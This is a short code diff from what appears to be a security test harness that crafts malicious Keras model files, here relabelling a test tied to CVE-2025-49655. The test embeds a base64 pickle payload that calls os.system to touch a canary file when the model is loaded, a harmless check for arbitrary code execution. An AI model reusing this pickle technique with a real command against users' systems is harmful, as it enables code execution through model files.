@@ -185,7 +185,7 @@ def get_file_as_a_loss(lab: Lab) -> None:
     write_config(lab, config)
 
 
-@attack(".keras", NOT_OURS, "CVE-2025-49655")
+@attack(".keras", "loaded from a pickle", "CVE-2025-49655")
 def a_pickle_in_a_torch_module(lab: Lab) -> None:
     pickled = base64.b64encode(b"cos\nsystem\n(S'touch " + str(lab.canary).encode() + b"'\ntR.").decode()
     write_config(lab, functional(entry("TorchModuleWrapper", {"module": pickled})))
